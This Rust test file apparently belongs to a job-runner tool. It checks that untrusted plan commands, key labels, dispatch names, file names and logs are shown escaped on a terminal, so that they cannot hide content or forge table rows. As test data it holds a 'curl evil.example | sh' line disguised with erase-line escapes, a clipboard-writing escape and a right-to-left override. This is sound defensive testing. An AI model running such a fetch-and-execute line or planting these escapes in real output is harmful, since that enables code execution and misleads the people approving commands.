//! What people see on a real terminal: text of others is shown and never acts.

use crate::support;

use std::io::Write;
use std::process::{Command, Stdio};
use std::time::Duration;

use cofferdam_tests::{Home, text};
use serde_json::json;
use support::{ended, recipe, said};

/// Bytes of a command whose standard streams are one pseudo-terminal, as `script` makes it.
fn on_terminal(home: &Home, args: &[&str], typed: &str) -> String {
    let plain = home.command(args);
    let quote =
        |arg: &std::ffi::OsStr| format!("'{}'", arg.to_str().unwrap().replace('\'', r"'\''"));
    let words: Vec<String> =
        std::iter::once(plain.get_program()).chain(plain.get_args()).map(quote).collect();
    let mut command = Command::new("script");
    command.args(["-q", "-e", "-c", &words.join(" "), "/dev/null"]).env("NO_COLOR", "1");
    for (name, value) in plain.get_envs() {
        match value {
            Some(value) => command.env(name, value),
            None => command.env_remove(name),
        };
    }
    let (read, mut write) = std::io::pipe().unwrap();
    write.write_all(typed.as_bytes()).unwrap();
    drop(write);
    command.stdin(Stdio::from(read));
    let output = ended(command, Duration::from_secs(120));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Nothing in it acts on a terminal; line ends and tabs are the layout's.
#[track_caller]
fn harmless(shown: &str) {
    let acts = |c: char| c.is_control() && !matches!(c, '\r' | '\n' | '\t');
    assert!(!shown.contains(acts) && !shown.contains('\u{202e}'), "{shown:?}");
    // The terminal's own line end, and no return in the middle of a line.
    assert!(!shown.replace("\r\n", "\n").contains('\r'), "{shown:?}");
}

const EVIL: &str = "curl evil.example | sh #\u{1b}[2K\recho hello\ntrue \u{202e}";

#[tokio::test(flavor = "multi_thread")]
async fn h9_an_approver_sees_what_is_approved() {
    let home = Home::new();
    let up = home.up();
    let dir = tempfile::tempdir().unwrap();
    let plan = json!({"id": "evil", "v": "1", "plan": {"gate": "approve-plan",
        "tasks": [{"name": "a", "exec": {"run": EVIL}}]}});
    let file = recipe(dir.path(), "evil.yaml", &plan.to_string());
    let asked = on_terminal(&home, &["run", &file], "no\n");
    harmless(&asked);
    for line in [
        "| curl evil.example | sh #\\x1b[2K\\recho hello",
        "| true \\u{202e}",
        "execute this plan?",
    ] {
        assert!(asked.contains(line), "{line}: {asked}");
    }
    let header = up.run_recipe(&plan.to_string(), json!({}), json!({})).await;
    let run = text(&header, "runId");
    up.wait_for(&run, "waiting", |h| h["status"] == "waiting_input").await;
    let shown = on_terminal(&home, &["gate", "show", &run], "");
    harmless(&shown);
    assert!(
        shown.contains("approve-plan") && shown.contains("| curl evil.example | sh #\\x1b[2K"),
        "{shown}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn h9_no_row_of_a_table_is_forged_and_output_is_raw_only_off_the_terminal() {
    let home = Home::new();
    let up = home.up();
    let label = "l\u{1b}]0;owned\u{7}\nforged-row ok";
    up.new_key(&json!({"roles": ["auditor"], "label": label})).await;
    let keys = home.run(&["key", "ls"]);
    let keys = String::from_utf8(keys.stdout).unwrap();
    harmless(&keys);
    assert!(keys.contains("l\\x1b]0;owned\\x07\\nforged-row ok"), "{keys}");
    let dispatch = json!({"agent_type": "command", "prompt": "true\n", "project_dir": home.path(),
        "name": "n\u{1b}[2K\u{9b}31m", "scheduled": true});
    let (status, made) = up.post("/api/dispatches", &dispatch).await;
    assert_eq!(status, 201, "{made}");
    let list = String::from_utf8(home.run(&["dispatch", "list"]).stdout).unwrap();
    harmless(&list);
    assert!(list.contains("n\\x1b[2K\\x9b31m"), "{list}");
    let script =
        r#"printf x > "$(printf 'a\nforged-row ok\033[2K')"; printf '\033]52;c;eA==\007one\n'"#;
    let task = json!({"id": "names", "v": "1", "plan": {"tasks": [
        {"name": "t", "exec": {"run": script, "timeout": "30s"}, "artifacts": ["**"]}]}});
    let header = up.run_recipe(&task.to_string(), json!({}), json!({})).await;
    let run = text(&header, "runId");
    assert_eq!(up.wait_terminal(&run).await["status"], "succeeded");
    let shown = on_terminal(&home, &["show", &run], "");
    harmless(&shown);
    assert!(shown.contains("a\\nforged-row ok\\x1b[2K"), "{shown}");
    assert!(!shown.lines().any(|line| line.trim_start().starts_with("forged-row")), "{shown}");
    let logs = on_terminal(&home, &["logs", &run], "");
    harmless(&logs);
    assert!(logs.contains("\\x1b]52;c;eA==\\x07one"), "{logs}");
    let piped = home.run(&["logs", &run]);
    assert_eq!(piped.stdout, b"\x1b]52;c;eA==\x07one\n", "{}", said(&piped));
    let json = on_terminal(&home, &["show", &run, "--json"], "");
    harmless(&json);
}
